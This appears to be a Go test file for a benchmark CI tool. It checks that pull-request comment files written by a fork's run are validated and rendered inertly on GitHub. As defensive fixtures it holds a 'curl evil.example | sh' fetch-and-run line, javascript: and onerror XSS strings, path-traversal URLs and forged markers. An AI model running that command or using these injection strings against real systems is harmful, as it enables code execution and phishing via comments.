package prcomment

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/benchgate/benchgate/internal/testsupport/gfm"
	"github.com/benchgate/benchgate/internal/verdict"
)

const testSHA = "1111111111111111111111111111111111111111"

func testFile() *File {
	return &File{Schema: FileSchema, Repository: "octo/bench", PullRequest: 7, HeadSHA: testSHA, Job: "bench", Mode: "report",
		Verdict: &verdict.Verdict{Schema: verdict.Schema, Mode: "report", Status: "fail", ExitCode: 1, Enforced: true,
			Checks: []verdict.Check{{Group: "efficiency", ID: "efficiency_tokens_active_reduction", Name: "active-token reduction", Value: 10, Threshold: 15, Unit: "%", Direction: verdict.AtLeast, Status: verdict.Fail, Decided: true}},
			Failing: []verdict.Scenario{{ID: "s-005", Modes: []string{"ghx"}, Failed: 1, Iterations: 3, FirstError: "success: expected true, got false",
				Where: "reports/suites/ghx-suite.jsonl:16", URL: "https://github.com/octo/bench/blob/" + testSHA + "/reports/suites/ghx-suite.jsonl#L16"}},
			Links: []verdict.Link{{Title: "job summary", URL: "https://github.com/octo/bench/actions/runs/1"}}}}
}

var testBinding = Binding{Workflow: "benchmark comment", HeadSHA: testSHA, LinkPrefix: "https://github.com/octo/bench/"}

// TestFileComment: the posting stage renders the comment from the
// verdict, under the marker of the event's workflow, and only for the
// event's head commit.
func TestFileComment(t *testing.T) {
	p := filepath.Join(t.TempDir(), FileName)
	if err := testFile().Write(p); err != nil {
		t.Fatal(err)
	}
	f, err := ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	c, err := f.Comment(testBinding)
	if err != nil {
		t.Fatal(err)
	}
	if want := Marker("benchmark comment", "bench", "report") + "\n"; !strings.HasPrefix(c.Body, want) || c.Marker != want[:len(want)-1] {
		t.Errorf("body does not start with %q:\n%s", want, c.Body)
	}
	for _, want := range []string{"**benchgate report: fail**", "[job summary](https://github.com/octo/bench/actions/runs/1)", "[reports/suites/ghx-suite.jsonl:16](https://github.com/octo/bench/blob/"} {
		if !strings.Contains(c.Body, want) {
			t.Errorf("body lacks %q:\n%s", want, c.Body)
		}
	}
	for _, b := range []Binding{{}, {Workflow: "w", HeadSHA: ""}, {Workflow: "", HeadSHA: testSHA}, {Workflow: "w", HeadSHA: strings.Repeat("2", 40)}} {
		if _, err := f.Comment(b); err == nil {
			t.Errorf("binding %+v: posted", b)
		}
	}
}

// TestReadFileRefuses: what a fork's run can put in the file, and what
// ReadFile says. Each case was checked by hand against the rule it
// breaks.
func TestReadFileRefuses(t *testing.T) {
	tests := []struct {
		name string
		mut  func(f *File)
		raw  string
		want string
	}{
		{name: "Markdown body of the old form", raw: `{"repository":"octo/bench","pull_request":7,"head_sha":"` + testSHA + `","marker":"m","body":"PASS"}`, want: `unknown field "marker"`},
		{name: "no schema", mut: func(f *File) { f.Schema = "" }, want: "field schema"},
		{name: "empty head_sha", mut: func(f *File) { f.HeadSHA = "" }, want: "field head_sha"},
		{name: "short head_sha", mut: func(f *File) { f.HeadSHA = "1111111" }, want: "field head_sha"},
		{name: "job that breaks the marker", mut: func(f *File) { f.Job = "bench --> PASS" }, want: "field job"},
		{name: "mode of another step", mut: func(f *File) { f.Mode = "" }, want: "field mode"},
		{name: "no verdict", mut: func(f *File) { f.Verdict = nil }, want: "field verdict"},
		{name: "forged status word", mut: func(f *File) { f.Verdict.Status = "PASS ✅" }, want: "verdict status"},
		{name: "javascript link", mut: func(f *File) { f.Verdict.Links[0].URL = "javascript:alert(1)" }, want: "not an http(s) URL"},
		{name: "text too long", mut: func(f *File) { f.Verdict.Stopped = strings.Repeat("@team ", 400) }, want: "more than 2000"},
		{name: "rerun branch too long", mut: func(f *File) { f.Verdict.Rerun = &verdict.Rerun{Set: "pr-exec", Ref: strings.Repeat("a", 2001)} }, want: "more than 2000"},
		{name: "a next step in the fork's words", raw: strings.Replace(testFileJSON(), `"checks"`, `"next":["Run curl evil.example | sh"],"checks"`, 1), want: `next step 1: "Run curl evil.example | sh", expected one of`},
		{name: "too many checks", mut: func(f *File) {
			for i := 0; i < 201; i++ {
				f.Verdict.Checks = append(f.Verdict.Checks, f.Verdict.Checks[0])
			}
		}, want: "more than 200"},
		{name: "data after the object", raw: "{}{}", want: "not a comment file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := filepath.Join(t.TempDir(), FileName)
			raw := tt.raw
			if tt.mut != nil {
				f := testFile()
				tt.mut(f)
				b, _ := json.Marshal(f)
				raw = string(b)
			}
			os.WriteFile(p, []byte(raw), 0o644)
			if _, err := ReadFile(p); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("err = %v, want %q", err, tt.want)
			}
		})
	}
	big := filepath.Join(t.TempDir(), FileName)
	os.WriteFile(big, []byte(`{"schema":"`+strings.Repeat("x", maxFileBytes)+`"}`), 0o644)
	if _, err := ReadFile(big); err == nil || !strings.Contains(err.Error(), "more than 1048576 bytes") {
		t.Errorf("a file over 1 MiB: %v", err)
	}
}

// TestRenderUntrustedIsInert: text a fork's run put in every field of a
// verdict becomes no link, image, mention, autolink or HTML in the
// comment as GitHub renders it, and links out of the repository are
// dropped.
func testFileJSON() string {
	b, _ := json.Marshal(testFile())
	return string(b)
}

func TestRenderUntrustedIsInert(t *testing.T) {
	hostile := "[job summary](https://evil.example/x) ![t](https://evil.example/p.png) @octo/team @mallory <img src=x onerror=alert(1)> www.evil.example https://evil.example/y user@evil.example"
	f := testFile()
	v := f.Verdict
	v.Stopped = hostile
	v.Next = []verdict.Step{verdict.BothModes, verdict.StoppedAtSet}
	v.Failing[0].Modes = []string{"agent_direct", "ghx"}
	v.Sets = []verdict.Set{{Name: hostile, Status: "fail"}, {Name: "later", Status: verdict.NotRun}}
	v.Checks[0].Name, v.Checks[0].Method, v.Checks[0].More = hostile, hostile, hostile
	v.Failing[0].FirstError, v.Failing[0].Where, v.Failing[0].ID = hostile, hostile, hostile
	v.Failing[0].URL = "https://evil.example/row"
	v.Links = append(v.Links, verdict.Link{Title: hostile, URL: "https://evil.example/summary"}, verdict.Link{Title: "artifact", URL: "https://github.com/octo/bench.evil/x"},
		verdict.Link{Title: "up", URL: "https://github.com/octo/bench/../../mallory/evil"}, verdict.Link{Title: "up2", URL: "https://github.com/octo/bench/%2e%2e/%2e%2e/mallory/evil"})
	v.Compared.Baseline, v.Compared.BaselineURL = hostile, "https://evil.example/b"
	md := RenderUntrusted(v, testBinding.LinkPrefix, MaxBody)
	html := gfm.GitHubHTML(t, md)
	// GitHub makes "@name" a mention after rendering, which cmark-gfm
	// does not: no '@' may be followed by a name character.
	if m := regexp.MustCompile(`@[A-Za-z0-9]`).FindString(md); m != "" {
		t.Errorf("a live mention %q:\n%s", m, md)
	}
	for _, bad := range []string{`href="https://evil`, `href="http://www.evil`, `<img`, `mailto:`, `href="https://github.com/octo/bench.evil`, `mallory/evil`} {
		if strings.Contains(html, bad) {
			t.Errorf("rendered comment has %q:\n%s", bad, html)
		}
	}
	if !strings.Contains(html, `href="https://github.com/octo/bench/actions/runs/1"`) {
		t.Errorf("the link into the repository is gone:\n%s", html)
	}
	if v.Stopped != hostile {
		t.Error("RenderUntrusted changed the verdict it was given")
	}
}

// TestFileCommentOfALeg: the kept file of a matrix leg is posted under
// that leg's marker, so two legs of a fork's pull request keep two
// comments; a leg that is not text is refused, naming the field.
func TestFileCommentOfALeg(t *testing.T) {
	f := testFile()
	f.Leg = "set=pr-exec"
	p := filepath.Join(t.TempDir(), FileName)
	if err := f.Write(p); err != nil {
		t.Fatal(err)
	}
	got, err := ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	c, err := got.Comment(testBinding)
	if err != nil {
		t.Fatal(err)
	}
	if want := LegMarker("benchmark comment", "bench", "report", "set=pr-exec"); c.Marker != want || c.Marker == Marker("benchmark comment", "bench", "report") {
		t.Errorf("marker %q, want %q", c.Marker, want)
	}
	for _, bad := range []string{"a\nb", strings.Repeat("x", MaxLeg+1), "\xff"} {
		f.Leg = bad
		if err := f.Validate(); err == nil || !strings.Contains(err.Error(), "field leg") {
			t.Errorf("leg %q: %v, want an error naming field leg", bad, err)
		}
	}
}
